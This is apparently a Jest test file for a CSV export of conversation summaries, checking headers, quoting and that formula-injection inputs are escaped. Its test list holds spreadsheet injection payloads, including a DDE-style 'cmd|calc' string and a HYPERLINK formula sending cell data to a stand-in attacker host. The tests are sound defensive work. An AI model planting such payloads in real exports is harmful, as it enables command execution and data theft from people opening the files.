import { expect, test } from '@jest/globals';
import type { ConversationSummary } from '@patchbay/db';
import { conversationTable } from './conversation-table.ts';

async function tableOf(...previews: (string | null)[]): Promise<string> {
  const at = new Date('2026-11-28T10:00:00Z');
  const rows = previews.map(
    (preview): ConversationSummary => ({
      ...{ id: 'c', flowKey: 'vpn', version: 2, status: 'closed', resolution: 'resolved', startedAt: at, lastAt: at },
      ...{ turns: 3, preview },
    }),
  );
  async function* pages() {
    for (const row of rows) yield [row];
  }
  let text = '';
  for await (const piece of conversationTable(pages())) text += piece;
  return text;
}

/** The last cell of the only row. */
async function cellOf(preview: string): Promise<string> {
  const [, row = ''] = (await tableOf(preview)).split('\r\n');
  return row.slice(row.indexOf(',3,') + 3);
}

test('a table begins with a mark for spreadsheets and its columns, and has a row for each conversation', async () => {
  expect(await tableOf('Hello', null)).toBe(
    '\ufeffid,flow,version,status,resolution,started,last,turns,first words\r\n' +
      'c,vpn,2,closed,resolved,2026-11-28T10:00:00.000Z,2026-11-28T10:00:00.000Z,3,Hello\r\n' +
      'c,vpn,2,closed,resolved,2026-11-28T10:00:00.000Z,2026-11-28T10:00:00.000Z,3,\r\n',
  );
});

test.each([
  '=1+1',
  '+1',
  '-1+cmd|calc',
  '@SUM(A1)',
  '\t=1',
  '\r\n=1',
  ' =1',
  '\u200b=1',
  '\u202e=1',
  '\u00a0=1',
  '\ufeff=1',
  '＝1',
  '＋1',
  '－1',
  '＠SUM',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '=1","=2',
])('%j is no formula', async (text) => {
  const cell = await cellOf(text);
  expect(cell.replace(/^"/, '')).toMatch(/^'/);
});

test('separators, quotes and line feeds stay within their cell', async () => {
  expect(await cellOf('a,"b"\n=c;d')).toBe('"a,""b"" =c;d"');
  expect(await cellOf('plain - text = 1')).toBe('plain - text = 1');
});
